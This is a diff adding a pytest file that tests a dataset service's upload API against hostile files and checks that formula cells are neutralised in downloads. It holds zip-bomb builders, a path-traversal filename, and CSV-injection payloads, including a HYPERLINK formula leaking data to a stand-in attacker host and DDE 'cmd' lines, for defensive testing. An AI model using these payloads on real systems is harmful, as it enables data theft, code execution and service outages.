@@ -1,0 +1,313 @@
+"""Hostile files through the REST upload API: each gets a clean error and the public version stays as it was;
+formula-like cells never reach a download unneutralised."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import struct
+import zipfile
+import zlib
+
+import polars as pl
+import pytest
+
+from indexer.synthetic import demo_metadata, generate_survey
+
+from .conftest import MAX_UPLOAD_BYTES
+from .leaks import assert_clean
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _auth(token):
+    return {"Authorization": f"Bearer {token}"}
+
+
+def _xlsx(sheet_xml: bytes, *, level: int = 6) -> bytes:
+    """A minimal workbook around one worksheet part."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
+        zf.writestr(
+            "[Content_Types].xml",
+            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
+            "</Types>",
+        )
+        zf.writestr(
+            "_rels/.rels",
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
+            "</Relationships>",
+        )
+        zf.writestr(
+            "xl/workbook.xml",
+            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        )
+        zf.writestr(
+            "xl/_rels/workbook.xml.rels",
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
+            "</Relationships>",
+        )
+        zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)
+    return buf.getvalue()
+
+
+def _sheet(rows: list[list[str]], formula_cell: bool = False) -> bytes:
+    out = [
+        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    ]
+    for r, row in enumerate(rows, 1):
+        cells = "".join(
+            f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
+            for c, v in enumerate(row)
+        )
+        if formula_cell and r == 2:
+            cells += f'<c r="{chr(65 + len(row))}{r}"><f>HYPERLINK("http://evil.example","x")</f><v>0</v></c>'
+        out.append(f'<row r="{r}">{cells}</row>')
+    out.append("</sheetData></worksheet>")
+    return "".join(out).encode()
+
+
+def _zip_bomb() -> bytes:
+    """A workbook whose one worksheet inflates ~1000:1 (40 MB from a few tens of kB)."""
+    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>aaaa</t></is></c></row>'
+    body = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    body += row * (40_000_000 // len(row)) + b"</sheetData></worksheet>"
+    return _xlsx(body, level=9)
+
+
+def _lying_zip_bomb() -> bytes:
+    """The same bomb with the declared uncompressed sizes patched to look harmless (1:1)."""
+    data = bytearray(_zip_bomb())
+    # Patch every local header (PK\x03\x04) and central directory entry (PK\x01\x02) of the sheet.
+    name = b"xl/worksheets/sheet1.xml"
+    pos = 0
+    while (pos := data.find(b"PK\x03\x04", pos)) != -1:
+        n = struct.unpack_from("<H", data, pos + 26)[0]
+        if data[pos + 30 : pos + 30 + n] == name:
+            comp = struct.unpack_from("<I", data, pos + 18)[0]
+            struct.pack_into("<I", data, pos + 22, comp)
+        pos += 4
+    pos = 0
+    while (pos := data.find(b"PK\x01\x02", pos)) != -1:
+        n = struct.unpack_from("<H", data, pos + 28)[0]
+        if data[pos + 46 : pos + 46 + n] == name:
+            comp = struct.unpack_from("<I", data, pos + 20)[0]
+            struct.pack_into("<I", data, pos + 24, comp)
+        pos += 4
+    return bytes(data)
+
+
+def _csv(df: pl.DataFrame) -> bytes:
+    buf = io.BytesIO()
+    df.write_csv(buf)
+    return buf.getvalue()
+
+
+def _nested_json(depth: int) -> bytes:
+    return b'[{"a":' * depth + b"1" + b"}]" * depth
+
+
+def hostile_files() -> dict[str, tuple[str, bytes]]:
+    survey = generate_survey(40, seed=8)
+    header = survey.columns
+    wide = ",".join(f"c{i}" for i in range(3000)).encode() + b"\n" + b"1," * 2999 + b"1\n"
+    return {
+        "zip_bomb_xlsx": ("survey.xlsx", _zip_bomb()),
+        "lying_zip_bomb_xlsx": ("survey.xlsx", _lying_zip_bomb()),
+        "binary_named_csv": ("survey.csv", bytes(range(256)) * 64),
+        "png_named_csv": ("survey.csv", b"\x89PNG\r\n\x1a\n" + zlib.compress(b"\x00" * 5000)),
+        "xlsx_named_csv": ("survey.csv", _xlsx(_sheet([header, list(survey.row(0))]))),
+        "csv_named_xlsx": ("survey.xlsx", _csv(survey)),
+        "xlsx_with_formula": (
+            "survey.xlsx",
+            _xlsx(_sheet([header, *[list(r) for r in survey.rows()]], formula_cell=True)),
+        ),
+        "huge_single_cell": (
+            "survey.csv",
+            b"comments,sex\n" + b'"' + b"x" * 1_500_000 + b'",Female\n',
+        ),
+        "huge_header": ("survey.csv", b"a" * 100_000 + b",sex\n1,Female\n"),
+        "too_many_columns": ("survey.csv", wide),
+        "deeply_nested_json": ("survey.json", _nested_json(5000)),
+        "json_not_records": (
+            "survey.json",
+            json.dumps({"rows": {"a": {"b": [1, [2, [3]]]}}}).encode(),
+        ),
+        "empty_file": ("survey.csv", b""),
+        "nul_bytes_csv": ("survey.csv", _csv(survey).replace(b"Female", b"Fe\x00male")),
+        "over_upload_limit": ("survey.csv", b"a,b\n" + b"1,2\n" * (MAX_UPLOAD_BYTES // 4 + 10)),
+        "traversal_name": ("../../../../etc/passwd.csv", b"\x00\x01"),
+        "utf16_garbage": ("survey.csv", "sex,age\n\ud800".encode("utf-16", "surrogatepass")),
+    }
+
+
+@pytest.fixture(scope="module")
+def publisher(site):
+    return site.token(
+        "ada", ["datasets:write", "datasets:read-private", "datasets:publish"], ["samata"]
+    )
+
+
+def _public_state(site, slug):
+    ds = site.get(f"/api/3/action/package_show?id={slug}").json()["result"]
+    return ds.get("version") or ds.get("metadata_modified"), site.get(
+        f"/datasets/{slug}/download.csv"
+    ).content
+
+
+def test_each_hostile_file_gets_a_clean_error_and_the_public_version_is_untouched(site, publisher):
+    slug = site.published["demo"]["slug"]
+    before = _public_state(site, slug)
+    api_before = site.get(f"/api/v1/datasets/{slug}", headers=_auth(publisher)).json()[
+        "published_version"
+    ]
+    outcomes = {}
+    for name, (filename, data) in hostile_files().items():
+        resp = site.post(
+            f"/api/v1/datasets/{slug}/versions",
+            files={"file": (filename, data, "application/octet-stream")},
+            headers=_auth(publisher),
+        )
+        assert_clean(resp, name, site)
+        if resp.status_code == 202:
+            version = resp.json()["version"]["id"]
+            state = site.get(f"/api/v1/versions/{version}", headers=_auth(publisher)).json()
+            report = site.get(
+                f"/api/v1/versions/{version}/validation-report", headers=_auth(publisher)
+            )
+            assert_clean(report, name, site)
+            outcomes[name] = state["status"]
+            assert state["status"] in ("failed", "invalid", "rejected"), (name, state)
+            text = json.dumps(state) + report.text
+            assert (
+                "Traceback" not in text
+                and "RecursionError" not in text
+                and "MemoryError" not in text
+            )
+            job = site.get(
+                f"/api/v1/jobs/{resp.json()['job']['id']}", headers=_auth(publisher)
+            ).json()
+            assert job.get("error"), (name, job)
+            err = job["error"]
+            assert err.get("code") if isinstance(err, dict) else err, (name, job)
+            # A failed version can never be published.
+            pub = site.post(
+                f"/api/v1/versions/{version}/publish",
+                json={"approve_free_text": True},
+                headers=_auth(publisher),
+            )
+            assert pub.status_code in (400, 409), (name, pub.status_code, pub.text[:200])
+        else:
+            outcomes[name] = resp.status_code
+            assert resp.status_code in (400, 413, 415, 422), (name, resp.status_code)
+            assert resp.json()["error"]["code"], (name, resp.text[:200])
+    assert outcomes["over_upload_limit"] == 413
+    assert _public_state(site, slug) == before
+    assert (
+        site.get(f"/api/v1/datasets/{slug}", headers=_auth(publisher)).json()["published_version"]
+        == api_before
+    )
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="indexer/validate: a file with a header and no rows is ingested to awaiting_approval;"
+    " it should fail with a clear error (nothing to publish)",
+)
+def test_a_header_without_rows_is_refused(site, publisher):
+    slug = site.published["demo"]["slug"]
+    resp = site.post(
+        f"/api/v1/datasets/{slug}/versions",
+        files={"file": ("survey.csv", b"sex,age,district\n", "text/csv")},
+        headers=_auth(publisher),
+    )
+    assert_clean(resp, "header only", site)
+    if resp.status_code == 202:
+        state = site.get(
+            f"/api/v1/versions/{resp.json()['version']['id']}", headers=_auth(publisher)
+        ).json()
+        assert state["status"] == "failed", state
+    else:
+        assert resp.status_code in (400, 422)
+
+
+def _formula_survey() -> pl.DataFrame:
+    df = generate_survey(200, seed=17)
+    comments = [
+        FORMULAS[i % len(FORMULAS)] if i % 3 == 0 else c
+        for i, c in enumerate(df["comments"].to_list())
+    ]
+    return df.with_columns(pl.Series("comments", comments))
+
+
+def _dangerous(cell: str) -> bool:
+    if not cell or cell[0] not in "=+-@\t\r":
+        return False
+    try:
+        float(cell)
+        return False  # a plain number
+    except ValueError:
+        return True
+
+
+def test_formula_cells_are_neutralised_in_every_download(site, publisher):
+    meta = demo_metadata()
+    meta["title"] = {"en": "Survey with formula-looking comments"}
+    created = site.post(
+        "/api/v1/datasets",
+        json={"organisation": "samata", "metadata": meta},
+        headers=_auth(publisher),
+    )
+    assert created.status_code == 201, created.text
+    ds = created.json()
+    up = site.post(
+        f"/api/v1/datasets/{ds['id']}/versions",
+        files={"file": ("survey.csv", _csv(_formula_survey()), "text/csv")},
+        headers=_auth(publisher),
+    )
+    assert up.status_code == 202, up.text
+    version = up.json()["version"]["id"]
+    pub = site.post(
+        f"/api/v1/versions/{version}/publish",
+        json={"approve_free_text": True},
+        headers=_auth(publisher),
+    )
+    assert pub.status_code == 202, pub.text
+    slug = ds["slug"]
+    downloads = {
+        "csv": site.get(f"/datasets/{slug}/download.csv").text,
+        "csv_hxl": site.get(f"/datasets/{slug}/download.csv?hxl=1").text,
+    }
+    package = site.get(f"/datasets/{slug}/datapackage.zip")
+    assert package.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(package.content)) as zf:
+        for name in zf.namelist():
+            if name.endswith(".csv"):
+                downloads[f"zip:{name}"] = zf.read(name).decode()
+    seen_formula_text = False
+    for where, text in downloads.items():
+        rows = list(csv.reader(io.StringIO(text)))
+        assert len(rows) > 10, where
+        for row in rows:
+            for cell in row:
+                assert not _dangerous(cell), f"{where}: {cell!r}"
+                seen_formula_text |= "HYPERLINK" in cell or "cmd|" in cell
+    assert seen_formula_text, "the comments were dropped entirely; the test checks nothing"
